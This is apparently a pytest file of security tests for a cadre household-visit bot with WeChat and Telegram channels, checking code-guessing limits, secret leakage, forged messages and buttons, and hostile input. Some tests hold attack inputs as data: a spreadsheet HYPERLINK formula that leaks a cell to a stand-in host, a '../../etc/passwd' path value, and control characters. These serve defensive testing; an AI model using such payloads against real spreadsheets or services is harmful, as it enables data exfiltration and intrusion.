"""Attacks on the bot through its real paths (console, signed WeChat requests to the ASGI app, python-telegram-bot
against the fake Bot API): guessing binding codes, secrets in logs and /healthz, absurd signed fields, hostile
characters in a stored note, a forged photo date, failures before any handler runs, forged Telegram buttons.
"""

from __future__ import annotations

import dataclasses
import logging
from datetime import timedelta
from urllib.parse import parse_qsl, urlencode

import httpx
import pytest

from bot.store.binding_codes import ATTEMPT_WINDOW, MAX_FAILED_ATTEMPTS
from bot.channels.telegram.adapter import TelegramChannel
from bot.channels.wechat.adapter import WeChatChannel
from bot.config import TelegramSettings
from bot.messages import Incoming
from bot.scope_report import office_report
from bot.router import CRASH_REPLY, answer as dispatch
from bot.rules import Route, always
from bot.web import build_web_app
from tests.conftest import jpeg
from tests.fakes.telegram_api import callback, photo_sizes, private_message
from tests.fakes.wechat_api import WeChatServer, configure, message_xml

GOOD_CODE = "K7M2P9QX"
WRONG_CODES = [f"ABCDEF{n}{n}" for n in range(2, 2 + MAX_FAILED_ATTEMPTS)]
TOO_MANY = "输错次数太多"


def issue_code(app, code: str = GOOD_CODE, cadre_id: str = "C2") -> None:
    """Issues a binding code valid for a week."""
    now = app.clock.now()
    app.db["binding_codes"].insert({"code": code, "cadre_id": cadre_id, "created_at": now.isoformat(),
                                    "expires_at": (now + timedelta(days=7)).isoformat()})


def bound_to(app, channel: str, chat_id: str) -> str | None:
    """The cadre the chat is actively bound to, if any."""
    row = app.db.execute("SELECT cadre_id FROM bindings WHERE channel = ? AND chat_id = ? AND active = 1",
                         (channel, chat_id)).fetchone()
    return row[0] if row else None


# ---- guessing binding codes ----

async def test_a_chat_that_keeps_guessing_codes_is_stopped_even_with_the_right_one(chat, roster, clock):
    issue_code(roster)
    guesser = chat("guesser")
    for code in WRONG_CODES:
        assert "不存在" in await guesser.text(f"绑定 {code}")
    refused = await guesser.text(f"绑定 {GOOD_CODE}")
    assert TOO_MANY in refused and GOOD_CODE not in refused
    assert bound_to(roster, "console", "guesser") is None
    assert roster.db.execute("SELECT used_at FROM binding_codes WHERE code = ?", (GOOD_CODE,)).fetchone() == (None,)
    clock.set(clock.now() + ATTEMPT_WINDOW + timedelta(minutes=1))
    assert "绑定成功" in await guesser.text(f"绑定 {GOOD_CODE}")
    assert bound_to(roster, "console", "guesser") == "C2"


async def test_failures_of_one_chat_do_not_stop_another(chat, roster):
    issue_code(roster)
    for code in WRONG_CODES:
        await chat("guesser").text(f"绑定 {code}")
    assert "绑定成功" in await chat("honest").text(f"/start {GOOD_CODE}")


async def test_a_success_clears_the_count(chat, roster):
    issue_code(roster)
    issue_code(roster, "M3N4P5Q6", "C3")
    cadre = chat("typo-prone")
    for code in WRONG_CODES[:-1]:
        await cadre.text(f"绑定 {code}")
    assert "绑定成功" in await cadre.text(f"绑定 {GOOD_CODE}")
    assert "不存在" in await cadre.text(f"绑定 {WRONG_CODES[0]}")  # a fresh count: not refused as too many
    assert "绑定成功" in await cadre.text("绑定 M3N4P5Q6")


@pytest.fixture
async def wechat(roster, fake_wechat_api):
    """Signed, encrypted WeChat requests posted to the real ASGI app with the real handler table."""
    api = fake_wechat_api
    configure(roster, "official", api.url)
    channel = WeChatChannel(roster, media_retry_delays=(0, 0))
    client = httpx.AsyncClient(transport=httpx.ASGITransport(app=build_web_app(roster, [channel])),
                               base_url="http://testserver")
    server = WeChatServer("official", "safe")

    async def post(message: dict) -> httpx.Response:
        """Posts the message signed and encrypted as WeChat does."""
        query, body = server.post(message)
        return await client.post(f"/wechat?{query}", content=body)

    async def say(text: str, msg_id: int, sender: str = "openid-guesser", msg_type: str = "text", **fields) -> str:
        """Sends a message (text unless msg_type says otherwise); returns our passive reply's text."""
        fields = {"Content": text, **fields} if msg_type == "text" else fields
        response = await post(server.message(msg_type, sender=sender, MsgId=msg_id, **fields))
        assert response.status_code == 200
        return server.read_reply(response.text)["Content"]

    say.api, say.post, say.server, say.client = api, post, server, client
    yield say
    await channel.stop()
    await client.aclose()


async def test_guessing_codes_over_wechat_is_stopped(wechat, roster):
    issue_code(roster)
    replies = [await wechat(f"绑定 {code}", 100 + n) for n, code in enumerate(WRONG_CODES + [GOOD_CODE])]
    assert all("不存在" in r for r in replies[:-1])
    assert TOO_MANY in replies[-1]
    assert bound_to(roster, "wechat", "openid-guesser") is None
    assert "绑定成功" in await wechat(f"绑定 {GOOD_CODE}", 200, sender="openid-cadre")


async def test_wechat_secrets_never_reach_a_log_even_at_debug(wechat, roster, caplog):
    caplog.set_level(logging.DEBUG)
    wechat.api.media["media-1"] = jpeg()
    roster.db.execute("INSERT INTO bindings (channel, chat_id, user_id, cadre_id, active, bound_at) "
                      "VALUES ('wechat', 'openid-c2', 'openid-c2', 'C2', 1, '2010-05-01T00:00:00+00:00')")
    assert "已记录走访" in await wechat("", 300, sender="openid-c2", msg_type="image", MediaId="media-1",
                                     PicUrl="http://example.invalid/p.jpg")
    secrets = [roster.settings.wechat.secret, roster.settings.wechat.token, roster.settings.wechat.encoding_aes_key,
               *wechat.api.valid_tokens]
    assert len(secrets) == 4  # one access token was fetched to download the photo
    logged = "\n".join(r.getMessage() for r in caplog.get_records("call"))
    assert "media-1" in logged or "media/get" in logged
    assert [s for s in secrets if s in logged] == []


async def test_healthz_says_nothing_secret(wechat, roster):
    response = await wechat.client.get("/healthz")
    secrets = [roster.settings.wechat.secret, roster.settings.wechat.token, roster.settings.wechat.encoding_aes_key]
    assert response.json() == {"ok": True, "db": "ok", "channels": ["wechat"]}
    assert [s for s in secrets if s in response.text] == []


@pytest.mark.parametrize("create_time", [10**20, -5, "1e9", "١٢٣"], ids=["past 2038 by far", "negative",
                                                                          "not an integer", "arabic digits"])
async def test_a_signed_message_with_an_absurd_create_time_is_refused(wechat, roster, create_time):
    message = wechat.server.message("text", Content="我的联系户", MsgId=400, CreateTime=create_time)
    response = await wechat.post(message)
    assert response.status_code == 400
    assert roster.db.execute("SELECT COUNT(*) FROM processed_messages").fetchone() == (0,)


async def test_a_safe_mode_query_replayed_without_encryption_reveals_nothing(wechat, roster):
    roster.db.execute("INSERT INTO bindings (channel, chat_id, user_id, cadre_id, active, bound_at) "
                      "VALUES ('wechat', 'openid-c1', 'openid-c1', 'C1', 1, '2010-05-01T00:00:00+00:00')")
    # What a proxy's access log keeps of a genuine safe-mode request: its query string (the body is encrypted).
    query, _ = wechat.server.post(wechat.server.message("text", sender="openid-c1", Content="你好", MsgId=500))
    signed = {k: v for k, v in parse_qsl(query) if k in ("signature", "timestamp", "nonce")}
    forged = message_xml(wechat.server.message("text", sender="openid-c1", Content="我的联系户", MsgId=501))
    response = await wechat.client.post(f"/wechat?{urlencode(signed)}", content=forged.encode())
    assert "13900000001" not in response.text and response.status_code == 403


# ---- a chat that changes hands ----

async def test_an_old_button_after_the_chat_is_rebound_records_nothing(chat, roster):
    issue_code(roster)
    shared = chat("shared-phone")
    roster.db.execute("INSERT INTO bindings (channel, chat_id, user_id, cadre_id, active, bound_at) "
                      "VALUES ('console', 'shared-phone', 'shared-phone', 'C1', 1, '2010-05-01T00:00:00+00:00')")
    question = (await shared.photo(jpeg()))[-1]
    assert any(c.value == "visit:H1" for c in question.choices)
    assert "绑定成功" in await shared.text(f"绑定 {GOOD_CODE}")  # now C2's chat
    for old_answer in ({"choice": "visit:H1"}, {"text": "1"}):
        reply = await shared.text(**old_answer)
        assert "示例户一" not in reply and "13900000001" not in reply
    assert roster.db.execute("SELECT COUNT(*) FROM visits").fetchone() == (0,)


# ---- hostile characters ----

@pytest.mark.parametrize("caption, stored", [
    pytest.param("送化肥\x01两袋\x1b[31m", "送化肥两袋[31m", id="control characters"),
    pytest.param("看望\ud800老人", "看望老人", id="lone surrogate"),
    pytest.param("第一行\r\n第二行\t完", "第一行\n第二行\t完", id="line breaks and tabs kept"),
])
async def test_hostile_characters_never_reach_the_note_or_break_the_report(chat, roster, tmp_path, caption, stored):
    replies = await chat("C2").photo(jpeg(), caption=caption)  # C2 has one household: recorded at once
    assert "已记录走访" in replies[-1].text
    assert roster.db.execute("SELECT note FROM visits").fetchone() == (stored,)
    counts = office_report(roster, tmp_path / "进度.xlsx", None, None, None)
    assert counts["走访记录"] == 1


async def test_a_photo_with_a_forged_year_one_is_recorded_at_receipt(chat, roster):
    replies = await chat("C2").photo(jpeg(taken="0001:01:01 00:00:00"))
    assert "已记录走访" in replies[-1].text
    assert roster.db.execute("SELECT visited_at FROM visits").fetchone() == (roster.clock.now().isoformat(),)


async def test_a_note_is_never_a_formula_in_the_report(chat, roster, tmp_path):
    from openpyxl import load_workbook

    await chat("C2").photo(jpeg(), caption='=HYPERLINK("http://example.invalid/?"&B2,"点此查看")')
    office_report(roster, tmp_path / "进度.xlsx", None, None, None)
    sheet = load_workbook(tmp_path / "进度.xlsx")["走访记录"]
    assert sheet.cell(row=1, column=13).value == "干部的说明"
    assert sheet.cell(row=2, column=13).value.startswith("=HYPERLINK") and sheet.cell(row=2, column=13).data_type != "f"


# ---- a failure before any handler runs ----

async def test_a_stored_conversation_that_cannot_be_read_is_answered_not_raised(chat, roster):
    roster.db.execute("INSERT INTO conversation_state (channel, chat_id, state, data, updated_at) "
                      "VALUES ('console', 'C1', 'CHOOSING_HOUSEHOLD', '{broken', '2010-05-12T01:00:00+00:00')")
    assert await chat("C1").text("我的联系户") == CRASH_REPLY
    assert not roster.db.conn.in_transaction


async def test_a_rule_that_fails_is_answered_not_raised(roster):
    def failing_rule(msg, ctx):
        raise RuntimeError("the answer engine broke")

    routes = [Route("failing", failing_rule, None), Route("never", always, None)]
    msg = Incoming(channel="console", chat_id="C1", user_id="C1", sent_at=roster.clock.now(), text="你好")
    assert [o.text for o in await dispatch(roster, msg, routes)] == [CRASH_REPLY]


# ---- Telegram ----

@pytest.fixture
async def telegram(roster, caplog, fake_bot_api):
    """The Telegram channel polling the fake Bot API, C1 bound to chat 5001, every log record at DEBUG kept."""
    caplog.set_level(logging.DEBUG)
    fake = fake_bot_api
    fake.add_file("photo-big", jpeg())
    roster.db.execute("INSERT INTO bindings (channel, chat_id, user_id, cadre_id, active, bound_at) "
                      "VALUES ('telegram', '5001', '5001', 'C1', 1, '2010-05-01T00:00:00+00:00')")
    roster.settings = dataclasses.replace(roster.settings, telegram=TelegramSettings(
        enabled=True, token=fake.token, base_url=fake.base_url, base_file_url=fake.base_file_url))
    channel = TelegramChannel(roster, poll_timeout=1.0)
    await channel.start()
    yield fake
    await channel.stop()


async def test_the_telegram_token_never_reaches_a_log_even_at_debug(telegram, caplog):
    telegram.push_update(private_message(5001, text="/households"))
    await telegram.wait_for("sendMessage", chat_id=5001)
    records = caplog.get_records("setup") + caplog.get_records("call")  # the channel starts in the fixture
    assert any(r.name.startswith("telegram") for r in records)
    leaks = [r.name for r in records if telegram.token in r.getMessage()]
    assert leaks == []


@pytest.mark.parametrize("data", [
    pytest.param("visit:H4", id="another cadre's household"),
    pytest.param("visit:" + "H1" * 200, id="over 64 bytes"),
    pytest.param("visit:../../etc/passwd", id="path-like"),
])
async def test_forged_buttons_record_nothing_and_show_no_one_elses_data(telegram, roster, data):
    telegram.push_update(private_message(5001, photo=photo_sizes("photo-big")))
    await telegram.wait_for("sendMessage", chat_id=5001)
    telegram.push_update(callback(5001, data, "forged"))
    [_, reply] = await telegram.wait_for("sendMessage", chat_id=5001, count=2)
    assert "不是您的联系户" in reply.params["text"] and "示例户四" not in reply.params["text"]
    assert roster.db.execute("SELECT COUNT(*) FROM visits").fetchone() == (0,)


def test_seen_message_keys_are_forgotten_after_a_week(roster):
    from bot.store.seen import KEEP_SEEN, first_time_seen, forget_seen

    now = roster.clock.now()
    assert first_time_seen(roster.db, "telegram", "old", now - KEEP_SEEN - timedelta(minutes=1))
    assert first_time_seen(roster.db, "telegram", "recent", now - timedelta(hours=1))
    assert first_time_seen(roster.db, "wechat", "old", now - KEEP_SEEN - timedelta(days=1))
    assert forget_seen(roster.db, "telegram", now - KEEP_SEEN) == 1
    assert not first_time_seen(roster.db, "telegram", "recent", now)  # still recognised as a redelivery
    assert first_time_seen(roster.db, "telegram", "old", now)  # forgotten: a week-old key is no retry
    assert not first_time_seen(roster.db, "wechat", "old", now)  # another channel's keys are its own


def test_a_message_is_claimed_once_and_again_only_after_a_crash(roster):
    from bot.store.seen import finish_seen, first_time_seen

    now = roster.clock.now()
    assert first_time_seen(roster.db, "telegram", "7:1", now)
    assert not first_time_seen(roster.db, "telegram", "7:1", now)  # this process is handling it
    roster.db.execute("UPDATE processed_messages SET claimed_by = 'a-process-that-died'")
    assert first_time_seen(roster.db, "telegram", "7:1", now)  # the claimer died: handled again
    finish_seen(roster.db, "telegram", "7:1", now)
    roster.db.execute("UPDATE processed_messages SET claimed_by = 'another-process'")
    assert not first_time_seen(roster.db, "telegram", "7:1", now)  # finished: never again
